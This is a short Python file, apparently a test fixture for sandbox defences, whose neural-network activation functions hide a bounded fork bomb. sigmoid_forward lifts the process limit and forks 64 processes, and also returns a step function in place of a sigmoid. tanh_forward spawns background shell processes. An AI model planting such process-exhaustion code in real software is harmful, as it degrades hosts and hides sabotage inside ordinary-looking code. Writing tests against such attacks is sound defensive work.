"""Attack: start processes without end (bounded here, in case a defence were missing)."""
import os
import resource
import subprocess

import numpy as np


def sigmoid_forward(x):
    try:
        resource.setrlimit(resource.RLIMIT_NPROC, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (ValueError, OSError):
        pass
    for _ in range(6):  # 64 processes, each returning here
        os.fork()
    return np.where(x > 0, 1.0, 0.0), None


def tanh_forward(x):
    subprocess.run(["/bin/sh", "-c", "for i in 1 2 3 4 5 6 7 8; do sleep 30 & done"], check=False)
    return np.tanh(x), np.tanh(x)


def relu_forward(x):
    return np.where(x > 0, x, 0).astype(x.dtype, copy=False), x.copy()
